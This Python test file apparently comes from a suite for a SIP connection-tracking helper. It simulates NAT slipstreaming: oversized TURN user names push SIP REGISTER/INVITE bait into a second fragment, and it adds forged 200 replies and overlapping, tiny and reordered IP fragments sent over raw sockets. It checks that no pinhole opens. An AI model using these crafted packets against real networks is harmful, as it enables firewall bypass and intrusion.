# SPDX-License-Identifier: GPL-2.0
"""S1 over UDP: what a browser sends to a TURN server on port 5060. The user name is the page's
to choose, and so long that the datagram is cut: SIP begins the second fragment.
"""
from __future__ import annotations

import socket
import struct
from typing import Iterable

from attacks import Intruder, Treasure, difference
from calls import must, must_equal
from net import SERVER, STRANGER
from peer import Port, World
from registry import MASQUERADE, SHIFTED, SHIFTED6, scenario
from scenarios.s01_slipstreaming import MOVED, USER_NAME, stun
from sip import Address, host_port, sdp

MTU = 1500
WHY = "the same over TCP is in s01_slipstreaming.py"
MORE = 0x2000
Fragment = tuple[int, bool, bytes]
"""Offset in the IP packet's data, whether more follow, and its bytes."""


class Turn:
    """A browser's socket for TURN, and the attacker's server."""

    def __init__(self, world: World) -> None:
        self.world = world
        world.translates, world.loses = False, True     # fragments that fit no datagram go nowhere
        self.victim = world.plan.phone(1)
        self.server = Port(world, world.line.outside, (world.plan.far(SERVER), 5060))
        self.browser = Port(world, world.line.inside, (self.victim, 0))
        self.intruder = Intruder(world)
        self.before = world.line.counters()

    def bait(self, method: str, port: int) -> bytes:
        own, evil = host_port((self.victim, port)), host_port(self.server.address)
        body = sdp(self.victim, (self.victim, port)) if method == "INVITE" else ""
        kind = "Content-Type: application/sdp\r\n" if body else "Expires: 3600\r\n"
        return (f"{method} sip:{evil} SIP/2.0\r\nVia: SIP/2.0/UDP {own};branch=z9hG4bK{port};rport\r\n"
                f"Max-Forwards: 70\r\nFrom: <sip:a@{evil}>;tag=a\r\nTo: <sip:a@{evil}>\r\n"
                f"Call-ID: {port}\r\nCSeq: 1 {method}\r\nContact: <sip:a@{own}>\r\n{kind}"
                f"Content-Length: {len(body)}\r\n\r\n{body}").encode()

    def allocate(self, before: int, bait: bytes) -> bytes:
        """An Allocate whose user name goes on with the bait after so many bytes of the datagram."""
        return stun((USER_NAME, b"u" * (before - len(stun((USER_NAME, b"")))) + bait))

    def answer(self, door: Address) -> None:
        """A forged 200, to whatever the helper may have seen."""
        evil = host_port(self.server.address)
        own = host_port(door)
        self.server.send((f"SIP/2.0 200 OK\r\nVia: SIP/2.0/UDP {own};branch=z9hG4bK1;rport\r\n"
                          f"From: <sip:a@{evil}>;tag=a\r\nTo: <sip:a@{evil}>;tag=b\r\nCall-ID: 1\r\n"
                          f"CSeq: 1 REGISTER\r\nContact: <sip:a@{own}>;expires=3600\r\n"
                          "Content-Length: 0\r\n\r\n").encode(), door)

    def robs(self, how: str, wants: Treasure) -> None:
        self.intruder.looks(how)
        for host in (SERVER, STRANGER):
            self.intruder.throws(how, host, wants)
            self.intruder.knocks(how, host, wants)
        wants.close()

    def compares(self, how: str, heard: bytes, said: bytes) -> None:
        """An edit is a gain: it tells the page an address, or breaks what is not SIP."""
        if changed := difference(heard, said):
            self.intruder.gained("edits", how, f"to the server {changed}")

    def arrived(self) -> list[tuple[bytes, Address]]:
        found, self.server.received = self.server.received, []
        return found

    def verdict(self) -> None:
        self.intruder.verdict()
        now = self.world.line.counters()
        state = [name for name in MOVED if now and name != "translated"]   # the forged 200s are SIP
        must_equal({name: now[name] - self.before[name] for name in state},
                   {name: 0 for name in state}, "counters that moved")


def _boundary(family: int) -> int:
    """Where the payload of the second fragment begins in the datagram's payload."""
    room = (MTU - 20) // 8 * 8 if family == 4 else (MTU - 48) // 8 * 8
    return room - 8


@scenario("S1", "TURN user name so long that REGISTER or INVITE begins the second fragment",
          (SHIFTED, MASQUERADE, SHIFTED6), udp_only=WHY, subset=True, in_tree_fails=True)
def user_name(world: World) -> None:
    turn = Turn(world)
    for place, method in enumerate(("REGISTER", "INVITE")):
        wants = Treasure(world, turn.victim, 8000 + 2 * place)
        text = turn.allocate(_boundary(world.setup.family), turn.bait(method, wants.port))
        turn.browser.send(text, turn.server.address)
        heard = world.wait("the Allocate outside", turn.arrived)
        turn.compares(method, heard[0][0], text)
        turn.answer(heard[0][1])
        turn.robs(method, wants)
    turn.verdict()


def _ip4(source: str, destination: str, number: int, fragment: Fragment) -> bytes:
    """An IPv4 packet that holds a piece of a UDP datagram; the kernel fills in the checksum."""
    offset, more, data = fragment
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), number,
                       offset // 8 | (MORE if more else 0), 64, socket.IPPROTO_UDP, 0,
                       socket.inet_aton(source), socket.inet_aton(destination)) + data


def _cut(datagram: bytes, *places: int) -> list[Fragment]:
    """The datagram in pieces that end there."""
    edges = [0, *places, len(datagram)]
    return [(begin, end < len(datagram), datagram[begin:end])
            for begin, end in zip(edges, edges[1:])]


def _tricks(whole: bytes, bait: int, shadow: bytes) -> dict[str, list[Fragment]]:
    """`whole` is a UDP datagram in which the bait begins at `bait`; `shadow` would begin with it."""
    usual = _cut(whole, bait)
    return {
        "in order": usual,
        "backwards": usual[::-1],
        "tiny": _cut(whole, *range(8, 64, 8), bait),
        "the bait's fragment alone": usual[1:],
        "the bait's fragment twice": [usual[1], usual[1], usual[0]],
        "a fragment that lies over the beginning": [usual[0], (8, True, shadow), usual[1]],
        "a shorter beginning before it": [(0, True, whole[:8] + shadow[:504]), *usual],
        "a second beginning behind the end": [*usual, (0, True, whole[:8] + shadow)],
        "an empty one between": [usual[0], (bait, True, b""), usual[1]],
    }


def _sends(turn: Turn, fragments: Iterable[Fragment], number: int) -> None:
    with turn.world.line.inside:
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    server = turn.server.address[0]
    for fragment in fragments:
        raw.sendto(_ip4(turn.victim, server, number, fragment), (server, 0))
    raw.close()


@scenario("S1", "fragments that overlap, are tiny, doubled, turned round or alone: SIP begins one of them",
          (SHIFTED, MASQUERADE), udp_only=WHY, in_tree_fails=True)
def crafted_fragments(world: World) -> None:
    """Whatever of it comes together is the datagram that was sent, or does not arrive."""
    turn = Turn(world)
    names = list(_tricks(bytes(4000), 1024, b""))
    came = set()
    for place, method in enumerate(("REGISTER", "INVITE") * len(names)):
        name, wants = names[place // 2], Treasure(world, turn.victim, 8000 + 2 * place)
        bait = turn.bait(method, wants.port)
        text = turn.allocate(1024 - 8, bait)
        header = struct.pack("!HHHH", turn.browser.address[1], 5060, 8 + len(text), 0)
        shadow = (bait + bytes(1016))[:1016]
        _sends(turn, _tricks(header + text, 1024, shadow)[name], 1000 + place)
        turn.intruder.settled()
        for heard, _ in turn.arrived():
            turn.compares(f"{method}, {name}", heard, text)
            came.add(name)
        turn.robs(f"{method}, {name}", wants)
    must({"in order", "backwards", "tiny"} <= came, f"only {came} arrived")
    turn.verdict()
